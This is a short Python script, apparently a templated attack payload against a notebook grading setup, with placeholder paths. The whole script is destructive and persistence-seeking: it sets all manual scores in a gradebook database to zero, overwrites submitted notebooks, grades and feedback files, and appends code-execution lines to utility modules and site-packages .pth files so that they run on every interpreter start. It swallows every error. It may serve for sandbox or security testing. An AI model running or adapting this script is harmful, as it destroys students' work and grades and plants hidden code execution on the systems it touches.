import glob, os, sqlite3
def attempt(action):
    try:
        action()
    except Exception:
        pass
def gradebook():
    db = sqlite3.connect("{root}/gradebook.db")
    db.execute("update grade set manual_score = 0")
    db.commit()
attempt(gradebook)
for path in glob.glob("{root}/submitted/*/*/*.ipynb") + glob.glob("{root}/grades.csv") + glob.glob("{root}/feedback/*/*/*"):
    attempt(lambda: open(path, "w").write("{}"))
for path in glob.glob("{repo}/utils/**/*.py", recursive=True) + glob.glob("{repo}/.venv/lib/*/site-packages/*.pth"):
    attempt(lambda: open(path, "a").write("\nimport os; os.system('echo pwned')\n"))
attempt(lambda: open("{repo}/pwned.txt", "w").write("pwned"))
